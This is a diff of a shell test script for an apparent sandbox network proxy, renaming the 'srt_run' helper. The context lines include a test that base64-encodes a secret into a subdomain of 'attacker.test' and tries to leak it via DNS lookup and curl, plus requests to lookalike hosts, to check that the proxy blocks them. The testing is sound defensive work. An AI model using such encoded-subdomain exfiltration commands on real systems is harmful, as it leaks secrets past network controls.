@@ -14,7 +14,7 @@ fi
 net_server http WEB
 S=$(net_settings "[\"localhost:$WEB_PORT\",\"*.example.com\"]" '[]')
 secret=$(printf 's3cr3t' | base64 | tr -d '=\n' | tr 'A-Z' 'a-z')
-srt_run -d --settings "$S" -c "
+srt__run -d --settings "$S" -c "
 	getent hosts $secret.x.attacker.test; echo getent=\$?
 	$CURLP -o /dev/null https://$secret.x.attacker.test/; echo curl=\$?
 	$CURLP -o /dev/null -w '%{http_code}\n' http://localhost:$WEB_PORT/control" >"$WORK/out" 2>"$WORK/err"
@@ -25,7 +25,7 @@ check "control: an allowed name is looked up and logged" grep -q "srt-proxy: res
 check "control: the allowed request got through" grep -q "^GET /control " "$WEB_LOG"
 
 # N10: only strict subdomains match "*.example.com"; all refused before DNS
-srt_run -d --settings "$S" -c "
+srt__run -d --settings "$S" -c "
 	for h in example.com.evil.test evilexample.com example.com; do
 		$CURLP -o /dev/null -w \"\$h %{http_code}\n\" http://\$h/
 	done" >"$WORK/out" 2>"$WORK/err"
